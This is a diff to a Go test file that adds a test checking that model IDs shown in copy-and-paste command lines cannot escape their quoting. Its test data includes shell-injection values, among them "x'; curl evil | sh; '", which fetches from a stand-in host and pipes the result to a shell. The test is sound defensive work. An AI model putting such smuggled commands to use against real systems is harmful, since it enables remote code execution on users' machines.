@@ -17,6 +17,7 @@ import (
 
 	"github.com/kith/kith/internal/account"
 	"github.com/kith/kith/internal/credential"
+	"github.com/kith/kith/internal/fleet"
 )
 
 // inProcess lets a browser speak to the site without a network, so that it can
@@ -152,6 +153,7 @@ func testSessionsEnd(t *testing.T, tn *town) {
 	if after := one.client.Jar.Cookies(must1(url.Parse(tn.web.URL)))[0].Value; after == before {
 		t.Error("the token stayed as it was over a sign-in")
 	}
+	one.get("/account").want(t, 200)
 	stale := tn.browser()
 	stale.header.Set("Cookie", "kith="+before)
 	stale.get("/account").goes(t, "/signin?next=%2Faccount")
@@ -401,6 +403,23 @@ func TestTestKey(t *testing.T) {
 		if secret != "" && secret != "x" && strings.Contains(got.body, secret) {
 			t.Error("the page shows a key that is not ada's")
 		}
+	}
+}
+
+// TestPasted: what stands in lines to paste cannot end a quote in them.
+func TestPasted(t *testing.T) {
+	for id, want := range map[fleet.ModelID]bool{"llama3:8b": true, "org/Model-1.5_q4": true, "": false, "a b": false, "x'; curl evil | sh; '": false, `a"b`: false, "a$(b)": false, "a\\b": false, "é": false} {
+		if pastes(id) != want {
+			t.Errorf("%q may be pasted: %v", id, !want)
+		}
+	}
+	tn := newTown(t, nil)
+	evil := fleet.ModelID("x'; curl evil | sh; '")
+	secret := credential.Mint(credential.APIKey, "home").Reveal()
+	tn.keys = map[string]string{secret: "ada"}
+	page := tn.as("ada").post("/applications/test", "secret", secret, "model", string(evil)).want(t, 200)
+	if lines := page.body[strings.Index(page.body, "Paste into"):]; strings.Contains(lines, "evil") {
+		t.Errorf("the lines to paste hold %s", lines)
 	}
 }
 
